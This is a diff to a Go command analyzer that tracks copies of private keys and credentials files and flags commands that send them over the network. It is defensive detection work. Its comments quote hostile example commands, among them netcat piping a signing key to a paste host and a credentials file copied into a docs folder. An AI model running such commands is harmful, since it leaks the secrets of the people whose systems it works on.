@@ -1769,7 +1769,8 @@ func (iv *inv) intoDir(args []arg) []arg {
 // carries records that a copy or move of a file this command wrote holds
 // what it wrote (echo … > a.txt && cp a.txt b.sh && bash b.sh), and that
 // a copy of a secrets file (cp .env .env.example; not of a template,
-// .env.example) holds its secrets.
+// .env.example), or of a private key or credentials file (namedSecret),
+// holds its secrets.
 func (iv *inv) carries(args []arg) {
 	dst, ok := destination(args)
 	_, ops := opts(args)
@@ -1779,6 +1780,11 @@ func (iv *inv) carries(args []arg) {
 	if p, b := iv.c.tilde(ops[0].s), path.Base(ops[0].s); isSecretPath(p) && !templateFile(b) && !publicKey(p) && !(strings.HasPrefix(b, ".env") && !localSettings(b)) { // .env.test holds no one's keys
 		if _, made := iv.c.written[iv.c.resolve(iv.sc, ops[0]).path]; !made {
 			iv.c.wrote(iv.sc, dst, source{kind: srcSecret, text: ops[0].s}, false)
+			return
+		}
+	} else if !isSecretPath(p) && namedSecret(p) { // cp ~/.conan2/credentials.json docs/conan.json
+		if _, made := iv.c.written[iv.c.resolve(iv.sc, ops[0]).path]; !made {
+			iv.c.wrote(iv.sc, dst, source{kind: srcSecret, text: ops[0].s, named: true}, false)
 			return
 		}
 	}
@@ -3265,13 +3271,13 @@ func sendsSecret(iv *inv) {
 		uploadsSecret(iv)
 		return
 	}
-	if iv.in.kind == srcSecret {
-		iv.flag(Destructive, iv.name+" sends the environment or a secrets file over the network"+dumpNote(iv.in))
+	args := iv.rest(1)
+	if iv.in.kind == srcSecret && iv.in.named && !storesSecrets(args) { // nc termbin.com 9999 < keys/signing.pem
+		iv.flag(Destructive, iv.name+" sends a private key or credentials file over the network: "+iv.in.text)
 		return
 	}
-	args := iv.rest(1)
-	if iv.in.kind == srcFile && namedSecret(iv.in.text) && !storesSecrets(args) { // nc termbin.com 9999 < keys/signing.pem
-		iv.flag(Destructive, iv.name+" sends a private key or credentials file over the network: "+iv.in.text)
+	if iv.in.kind == srcSecret && !iv.in.named {
+		iv.flag(Destructive, iv.name+" sends the environment or a secrets file over the network"+dumpNote(iv.in))
 		return
 	}
 	dest, leaves := sendTargets(iv.name, args)
@@ -4126,7 +4132,7 @@ func readsSecret(iv *inv, scanWords bool) {
 				break
 			}
 			if p := iv.c.tilde(a.s); a.ok && !templateFile(path.Base(p)) &&
-				(isSecretPath(p) || isSecretPath(iv.c.resolve(iv.sc, arg{s: p, ok: true, src: a.s}).path) || iv.c.written[iv.c.resolve(iv.sc, a).path].kind == srcSecret && slices.Contains(readOnlyTools, iv.name)) { // a file this command filled with a secret, read back (tar's own archive is what it writes)
+				(isSecretPath(p) || isSecretPath(iv.c.resolve(iv.sc, arg{s: p, ok: true, src: a.s}).path) || iv.c.written[iv.c.resolve(iv.sc, a).path].kind == srcSecret && !iv.c.written[iv.c.resolve(iv.sc, a).path].named && slices.Contains(readOnlyTools, iv.name)) { // a file this command filled with a secret, read back (tar's own archive is what it writes)
 				why = iv.name + " reads a secrets file: " + a.s
 				break
 			}
@@ -4172,7 +4178,7 @@ func readsSecret(iv *inv, scanWords bool) {
 	if why == "" && iv.in.kind == srcSecret && iv.in.text == envDump && passesLines[iv.name] && !iv.sc.piped {
 		why = iv.name + " prints every environment variable it is given, tokens and keys included"
 	}
-	if why == "" && iv.in.kind == srcSecret && iv.in.text != "" && iv.in.text != envDump && !strings.HasPrefix(iv.in.text, dumpOf) && !strings.HasPrefix(iv.in.text, answerOf) && !quietReaders[iv.name] && !netTools[iv.name] && !iv.sc.piped && !shapeFilter(iv.name, iv.rest(1)) &&
+	if why == "" && iv.in.kind == srcSecret && !iv.in.named && iv.in.text != "" && iv.in.text != envDump && !strings.HasPrefix(iv.in.text, dumpOf) && !strings.HasPrefix(iv.in.text, answerOf) && !quietReaders[iv.name] && !netTools[iv.name] && !iv.sc.piped && !shapeFilter(iv.name, iv.rest(1)) &&
 		!(iv.sc.intoEnv && envFile(iv.in.text)) && !(assignsFile(iv.in.text) && keepsNames(iv.name, iv.rest(1))) {
 		why = iv.name + " reads secrets on its stdin: " + iv.in.text
 	}
